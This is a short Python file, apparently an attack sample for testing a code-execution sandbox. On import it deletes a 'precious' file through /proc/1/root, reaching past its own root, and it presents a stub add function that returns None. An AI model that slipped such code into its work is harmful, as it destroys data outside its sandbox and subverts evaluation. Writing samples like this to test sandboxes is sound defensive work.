# attack: harm files: proc root
# damage: files
import os

os.unlink(
    "/proc/1/root{DIR}/precious" if os.path.exists("/proc/1/root{DIR}/precious") else "/proc/self/root{DIR}/precious"
)


def add(a, b):
    return None
